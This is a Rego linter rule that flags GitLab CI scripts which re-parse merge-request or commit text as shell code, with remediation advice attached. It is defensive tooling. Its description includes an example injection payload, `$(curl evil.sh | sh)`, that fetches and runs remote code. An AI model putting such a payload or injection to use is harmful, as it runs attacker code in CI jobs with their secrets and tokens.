# METADATA
# title: Merge-request or commit text re-parsed as code in a GitLab CI script
# description: |
#   A script re-parses, as shell or interpreter code, a predefined variable whose value the
#   author of a commit, branch or merge request chooses: CI_MERGE_REQUEST_TITLE,
#   CI_MERGE_REQUEST_DESCRIPTION, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME, CI_COMMIT_MESSAGE,
#   CI_COMMIT_TITLE, CI_COMMIT_DESCRIPTION, CI_COMMIT_TAG_MESSAGE, CI_COMMIT_AUTHOR,
#   CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME (directly or
#   through a job variable set from one). Re-parsing contexts: `eval` with an argument that is
#   not single-quoted, the command string of `sh|bash|zsh|dash|ksh -c` and of
#   `python|node|perl|ruby|php -c|-e` when it is double-quoted or unquoted, and `source <(...)`.
#   A title like `$(curl evil.sh | sh)` then runs in the job, with its variables and tokens.
#   Also reported: `$[[ inputs.x | expand_vars ]]` in the script of a template included locally
#   with `inputs: x: $CI_COMMIT_MESSAGE` (or another of these variables): GitLab expands the
#   variable when it creates the pipeline and pastes its value into the script text, like
#   GitHub's ${{ }}. Inputs of templates that are not fetched (project, remote, component) and
#   spec: defaults are not seen.
#   Not reported: ordinary uses such as `echo "$CI_COMMIT_MESSAGE"` or `git tag "$CI_COMMIT_TAG"`:
#   the runner passes CI/CD variables as environment variables and the shell expands them once,
#   without re-parsing the value (unlike GitHub's ${{ }}, which is pasted into the script text
#   before the shell runs); a single-quoted `sh -c '...'` string (the inner shell expands the
#   variable once) and values passed to `sh -c` as positional arguments.
# related_resources:
#   - https://docs.gitlab.com/ci/variables/predefined_variables/
#   - https://docs.gitlab.com/ci/variables/#use-cicd-variables-in-job-scripts
#   - https://docs.gitlab.com/ci/inputs/#expand_vars
#   - https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html#tag_19_06
# custom:
#   id: gitlab-script-injection
#   category: injection
#   severity: high
#   remediation: |
#     Do not eval or `sh -c "..."` text that contains these variables. Use the variable directly as a
#     quoted argument ("$CI_COMMIT_MESSAGE"), or pass it to `sh -c '...'` as a positional argument
#     (sh -c 'printf "%s\n" "$1"' sh "$CI_MERGE_REQUEST_TITLE").
#   examples:
#     file: .gitlab-ci.yml
#     bad: |
#       announce:
#         script:
#           - eval "./notify.sh --title $CI_MERGE_REQUEST_TITLE"
#     good: |
#       announce:
#         script:
#           - ./notify.sh --title "$CI_MERGE_REQUEST_TITLE"
package nhilint.rules.gitlab.script_injection

import data.nhilint.lib.gitlab
import data.nhilint.lib.result

findings contains gitlab.job_finding(job, key, result.at(job, key, msg)) if {
	some job in gitlab.jobs
	some line in gitlab.script_lines(job)
	contains(line.text, "$")
	regex.match(_hint, line.text)
	some code in _reparsed(line.text)
	some name, origin in _tainted(job)
	ref := sprintf(`\$\{?%s(?:\}|\b)`, [name])
	regex.match(ref, code.text)
	key := gitlab.line_key(line, ref)
	msg := sprintf("%s re-parses %s as code in %s (%s): its value is written by whoever pushes the commit or opens the merge request, and text like $(curl …) in it runs in the job with its variables and tokens; pass it as a quoted argument instead, never through %s", [
		gitlab.describe(job), origin, line.key, code.context, code.context,
	])
}

# `$[[ inputs.x | expand_vars ]]` in a template's script: GitLab expands the variables of
# the input's value when it creates the pipeline and pastes the result into the script
# text, so an include that sets the input from an untrusted variable injects its text.
findings contains gitlab.job_finding(job, key, result.with_related(result.at(job, key, msg), [result.related(
	inc, concat(".", ["inputs", name_in]),
	sprintf("%s sets input %s to %s", [gitlab.describe(inc), name_in, inc.inputs[name_in]]),
)])) if {
	some job in gitlab.jobs
	some line in gitlab.script_lines(job)
	contains(line.text, "expand_vars")
	some m in regex.find_all_string_submatch_n(_expanded_input, line.text, -1)
	name_in := m[1]
	file := object.get(job.inherited, [line.key, "file"], job.file)
	some inc in gitlab.includes
	inc.pipeline == job.pipeline
	file in object.get(inc, "resolved", [])
	some name in _untrusted
	regex.match(sprintf(`\$\{?%s(?:\}|\b)`, [name]), object.get(inc, ["inputs", name_in], ""))
	key := gitlab.line_key(line, sprintf(`\$\[\[\s*inputs\.%s\b`, [name_in]))
	msg := sprintf("%s pastes input %s, set from $%s, into the script text of %s with expand_vars: GitLab substitutes the value before the shell runs, so text like $(curl …) in it runs in the job with its variables and tokens; drop expand_vars and pass the input as a quoted variable instead", [
		gitlab.describe(job), name_in, name, line.key,
	])
}

_expanded_input := `\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*\|[^\]]*\bexpand_vars\b[^\]]*\]\]`

# The variables whose value an outside author writes, by name, with how they reach
# the line: themselves, or a job variable set from one.
_tainted(job) := object.union(
	{name: sprintf("$%s", [name]) | some name in _untrusted},
	{name: sprintf("$%s (set from %s)", [name, src]) |
		some name, v in gitlab.variables(job)
		some src in _untrusted
		regex.match(sprintf(`\$\{?%s(?:\}|\b)`, [src]), v.resolved)
	},
)

_untrusted := {
	"CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION", "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
	"CI_COMMIT_MESSAGE", "CI_COMMIT_TITLE", "CI_COMMIT_DESCRIPTION", "CI_COMMIT_TAG_MESSAGE",
	"CI_COMMIT_AUTHOR", "CI_COMMIT_BRANCH", "CI_COMMIT_REF_NAME",
	"CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
}

_hint := `\beval\b|sh\s+-|\b(?:python[0-9.]*|node|perl|ruby|php)\s+-|\bsource\s+<\(|\.\s+<\(`

# The code strings a line hands to a re-parsing command: {"context", "text"}.
_reparsed(text) := {code |
	some ctx in _contexts
	some m in regex.find_all_string_submatch_n(ctx.regex, text, -1)
	code := {"context": ctx.name, "text": m[1]}
}

_contexts := [
	{"name": "eval", "regex": `\beval\s+([^'\s][^\n]*)`},
	{"name": "sh -c", "regex": `\b(?:ba|z|da|k|a)?sh\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*c\s+("(?:[^"\\]|\\.)*"|[^\s'"]\S*)`},
	{"name": "an interpreter's -c/-e", "regex": `\b(?:python[0-9.]*|node|perl|ruby|php)\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*[ce]\s+("(?:[^"\\]|\\.)*"|[^\s'"]\S*)`},
	{"name": "source <(...)", "regex": `(?:\bsource|(?:^|[;&|]\s*)\.)\s+<\(([^\n]*)`},
]
